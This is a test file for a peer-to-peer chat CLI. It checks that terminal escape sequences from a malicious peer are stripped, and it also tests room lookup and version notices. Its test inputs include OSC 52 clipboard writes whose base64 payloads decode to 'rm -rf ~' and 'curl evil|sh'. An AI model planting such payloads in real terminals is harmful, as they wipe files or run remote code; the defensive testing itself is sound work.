import test from 'brittle'
import { spawn } from 'child_process'
import path from 'path'
import { setup } from '../../harness/agent-net'
import { eventually } from '../../harness/eventually'
import { MAIN } from '../../harness/agent'

// OSC 52 writes the terminal's clipboard; CSI 2J clears the screen; a newline fakes a line.
const EVIL_NAME = 'Mallory\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202e'
const EVIL_TEXT = 'hi\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[31m red\x1b[0m\x9b1m\nAlice: fake line'

/** `peerline chat` as a person runs it, stopped at teardown; `out` is all it printed so far. */
function terminalChat(t: Parameters<Parameters<typeof test>[1]>[0], storage: string, bootstrap: string): { readonly out: string; type: (line: string) => boolean } {
  const proc = spawn(process.execPath, [MAIN, 'chat', '--storage', storage, '--bootstrap', bootstrap, '--host', '127.0.0.1'], {
    env: { ...process.env, PEERLINE_LOOKUP_TIMEOUT: '5000' }
  })
  let out = ''
  proc.stdout.on('data', (d: Buffer) => (out += d.toString('utf8')))
  proc.stderr.on('data', (d: Buffer) => (out += d.toString('utf8')))
  const exited = new Promise((resolve) => proc.once('exit', resolve))
  t.teardown(async () => {
    proc.kill('SIGTERM')
    await exited
  })
  return {
    get out() {
      return out
    },
    type: (line) => proc.stdin.write(line + '\n')
  }
}

test('the terminal chat strips escapes from peer names and text, shows names, and /to finds rooms by name', { timeout: 120_000 }, async (t) => {
  const { start, dir, bootstrap } = await setup(t)
  const mallory = await start('mallory')
  await mallory.call('setProfile', { name: EVIL_NAME })

  const chat = terminalChat(t, path.join(dir, 'alice'), bootstrap)
  const type = chat.type
  await eventually(async () => chat.out, (o) => o.includes('Ready'))

  type(`/add ${mallory.number}`)
  const request = await mallory.waitFor('contactRequest')
  await mallory.call('acceptContact', { number: request.number })
  await eventually(async () => chat.out, (o) => o.includes('accepted your request'))
  await mallory.call('send', { to: request.number, text: EVIL_TEXT })
  await eventually(async () => chat.out, (o) => o.includes('fake line'))

  t.absent(chat.out.includes(']52;'), 'no OSC 52 clipboard write reaches the terminal')
  t.absent(chat.out.includes('\x07'), 'no BEL')
  t.absent(chat.out.includes('\x1b[2J') || chat.out.includes('\x1b[31m'), 'no screen clear or colour from the peer')
  t.absent(chat.out.includes('\u009b') || chat.out.includes('\u202e'), 'no 8-bit CSI or bidi override')
  t.ok(/Mallory: hi red/.test(chat.out), 'the message shows the sender\'s name, cleaned')
  t.ok(/\n {2,}Alice: fake line/.test(chat.out), 'a line break in a message is indented, so it cannot pass for a new message')

  type('/create Street 14')
  await eventually(async () => chat.out, (o) => o.includes('Room "Street 14" made'))
  type(`/to ${mallory.number}`)
  type('/to Street 14')
  await eventually(async () => chat.out, (o) => o.includes('Talking in Street 14'))
  type('water at the school')
  type('/history')
  await eventually(async () => chat.out, (o) => /You: water at the school/.test(o))
  t.pass('/to finds a room by name, and sending there works')
  t.absent(/error|Unknown|no conversation/i.test(chat.out), 'no errors on the way')
})

test('the terminal chat says when a contact runs another Peerline version', { timeout: 120_000 }, async (t) => {
  const { start, dir, bootstrap } = await setup(t)
  // PEERLINE_SIMULATE_PROTOCOL: this agent speaks the next minor version (see mixed-version.test.ts).
  const newer = await start('newer', { PEERLINE_SIMULATE_PROTOCOL: '2.2' })
  await newer.call('setProfile', { name: 'Nia' })
  const chat = terminalChat(t, path.join(dir, 'alice'), bootstrap)
  await eventually(async () => chat.out, (o) => o.includes('Ready'))
  chat.type(`/add ${newer.number}`)
  await newer.waitFor('contactRequest')
  const shown = await eventually(async () => chat.out, (o) => /newer Peerline; update to see everything/.test(o), 30_000)
  t.ok(/Nia.*runs a newer Peerline; update to see everything/.test(shown), 'the chat names who runs the newer version and what to do')
})
